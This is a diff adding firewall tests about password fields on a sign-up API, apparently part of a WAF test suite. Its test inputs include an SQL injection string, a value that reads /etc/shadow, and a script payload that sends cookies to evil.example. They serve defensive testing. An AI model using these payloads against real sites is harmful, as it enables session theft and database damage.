@@ -107,3 +107,16 @@ describe("per-route, per-field exclusions (config, not code)", () => {
     }
   });
 });
+
+describe("passwords", () => {
+  it("pass the JSON sign-up API whatever characters they hold; the other fields are still inspected", () => {
+    for (const password of [`SF;x!6O9]gP'TH*@N@:`, `-S{@AjKzrH"--3293!o&`, "<(l%))GYc#N~K,D'L?gZ", "x';DROP TABLE t;--", "cat /etc/shadow;x"]) {
+      const r = inspectRequest(postJson("/api/account/signup", { email: "a@example.test", name: "Ada", password }), DEFAULT_WAF_CONFIG);
+      expect(r.action, password).toBe("allow");
+    }
+    const attack = inspectRequest(postJson("/api/account/signup", { email: "a@example.test", name: "<script>document.location='http://evil.example/?c='+document.cookie</script>", password: "a-long-password" }), DEFAULT_WAF_CONFIG);
+    expect(attack.action).toBe("block");
+    // Elsewhere a field called password is inspected like any other.
+    expect(inspectRequest(postJson("/api/protocols", { title: "x", password: "x';DROP TABLE t;--" }), DEFAULT_WAF_CONFIG).action).toBe("block");
+  });
+});
